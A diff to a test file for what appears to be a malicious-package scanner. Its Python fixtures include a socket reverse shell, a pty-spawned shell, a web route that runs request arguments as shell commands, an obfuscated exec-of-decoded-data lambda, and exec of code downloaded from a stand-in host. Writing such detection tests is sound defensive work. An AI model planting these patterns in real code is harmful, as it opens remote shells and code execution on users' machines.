@@ -88,6 +88,15 @@ describe('static rules', () => {
     expect(mediumPlus(scan({ 'pkg/__init__.py': 'from .pool import PoolManager\n_DEFAULT_POOL = PoolManager()\nclass Popen(Process):\n    pass\n' }))).toEqual([]);
   });
 
+  it('remote-shell: socket to shell, recv then run, request args run; exec of a decoding lambda', () => {
+    const rev = "import socket, subprocess, os\ns = socket.socket()\ns.connect(('127.0.0.1', 9))\nwhile True:\n    cmd = s.recv(1024).decode()\n    p = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)\n";
+    expect(top(scan({ 'pkg/__init__.py': rev }), 'remote-shell')).toBe('high');
+    expect(top(scan({ 'pkg/x.py': "import os, socket, pty\ns = socket.socket()\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n" }), 'remote-shell')).toBe('high');
+    expect(top(scan({ 'pkg/web.py': "@app.route('/p')\ndef p():\n    out = subprocess.Popen(request.args.get('c'), shell=True)\n" }), 'remote-shell')).toBe('high');
+    expect(top(scan({ 'pkg/d.py': "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=AAAA'))\n" }), 'exec-decoded')).toBe('high');
+    expect(top(scan({ 'pkg/srv.py': "import subprocess\ndef build():\n    subprocess.check_call(['make'])\n" }), 'remote-shell')).toBe('none');
+  });
+
   it('exec-remote: exec of a downloaded body', () => {
     expect(top(scan({ 'setup.py': "import requests\nexec(requests.get('http://stage.invalid/p').text)\n" }), 'exec-remote')).toBe('critical');
     expect(top(scan({ 'setup.py': "from urllib.request import urlopen\nr = urlopen('http://127.0.0.1:9/x')\ncode = r.read()\nexec(code)\n" }), 'exec-remote')).toBe('critical');
